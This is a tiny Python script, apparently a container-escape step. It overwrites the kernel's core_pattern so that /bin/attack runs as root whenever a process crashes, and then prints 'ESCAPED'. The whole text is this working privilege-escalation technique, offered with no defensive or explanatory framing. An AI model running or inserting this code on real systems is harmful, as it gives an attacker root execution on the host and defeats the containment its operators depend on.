# The program that the kernel starts as root when another crashes.
with open("/proc/sys/kernel/core_pattern", "w") as file:
    file.write("|/bin/attack")
print("ESCAPED")
